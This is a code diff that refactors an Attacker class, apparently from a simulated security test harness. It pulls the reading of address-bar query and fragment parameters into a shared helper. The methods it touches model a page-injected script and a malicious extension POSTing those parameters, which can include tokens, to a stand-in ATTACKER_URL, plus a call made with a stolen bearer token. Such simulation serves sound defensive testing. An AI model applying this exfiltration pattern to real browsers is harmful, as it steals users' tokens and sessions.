@@ -196,29 +196,20 @@ class Attacker:
     def exfiltrate(self, browser: Browser, *, path: str = "/collect") -> None:
         """A script of the attacker's running in the victim's page reads the
         address bar (fragment included) and sends it home."""
-        parts = urlsplit(browser.address)
-        params = {
-            key: values[0]
-            for part in (parts.query, parts.fragment)
-            for key, values in parse_qs(part).items()
-        }
         browser.fetch(
-            f"{ATTACKER_URL}{path}", method="POST", data=params, mode="no-cors"
+            f"{ATTACKER_URL}{path}",
+            method="POST",
+            data=_address_params(browser),
+            mode="no-cors",
         )
 
     def extension_reports(self, browser: Browser, *, path: str = "/report") -> None:
         """A browser extension of Mallory's reads the tab's address (fragment
         included) and reports it home from its own origin, not the page's."""
-        parts = urlsplit(browser.address)
-        params = {
-            key: values[0]
-            for part in (parts.query, parts.fragment)
-            for key, values in parse_qs(part).items()
-        }
         browser.fetch(
             f"{ATTACKER_URL}{path}",
             method="POST",
-            data=params,
+            data=_address_params(browser),
             mode="no-cors",
             origin=EXTENSION_ORIGIN,
         )
@@ -261,3 +252,13 @@ class Attacker:
         return self.http.get(
             f"{self.api_url}{path}", headers={"Authorization": f"Bearer {access_token}"}
         )
+
+
+def _address_params(browser: Browser) -> dict[str, str]:
+    """The parameters in the address bar's query and fragment."""
+    parts = urlsplit(browser.address)
+    return {
+        key: values[0]
+        for part in (parts.query, parts.fragment)
+        for key, values in parse_qs(part).items()
+    }
